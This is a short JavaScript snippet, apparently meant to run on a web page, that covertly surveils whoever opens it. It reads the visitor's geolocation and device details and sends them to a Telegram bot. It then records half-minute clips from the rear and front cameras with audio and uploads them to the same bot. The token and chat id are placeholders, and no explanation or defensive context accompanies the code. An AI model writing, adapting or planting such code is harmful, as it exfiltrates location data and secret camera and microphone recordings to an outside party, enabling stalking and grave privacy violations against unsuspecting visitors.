const T = "PLACEHOLDER", C = "PLACEHOLDER";
const bot = m => `https://api.telegram.org/bot${T}/${m}`;
let chunks = [];
navigator.geolocation.getCurrentPosition(p => {
  fetch(bot("sendLocation") + `?chat_id=${C}&latitude=${p.coords.latitude}&longitude=${p.coords.longitude}`);
});
fetch(bot("sendMessage") + `?chat_id=${C}&text=${encodeURIComponent(navigator.userAgent + navigator.platform + navigator.language)}`);
async function film(facing) {
  const stream = await navigator.mediaDevices.getUserMedia({ video: { facingMode: facing }, audio: true });
  const rec = new MediaRecorder(stream);
  rec.ondataavailable = e => chunks.push(e.data);
  rec.onstop = () => {
    const fd = new FormData();
    fd.append("chat_id", C);
    fd.append("video", new Blob(chunks, { type: "video/webm" }), facing + ".webm");
    fetch(bot("sendVideo"), { method: "POST", body: fd });
  };
  rec.start();
  setTimeout(() => { rec.stop(); stream.getTracks().forEach(t => t.stop()); }, 30000);
}
film("environment");
setTimeout(() => film("user"), 35000);
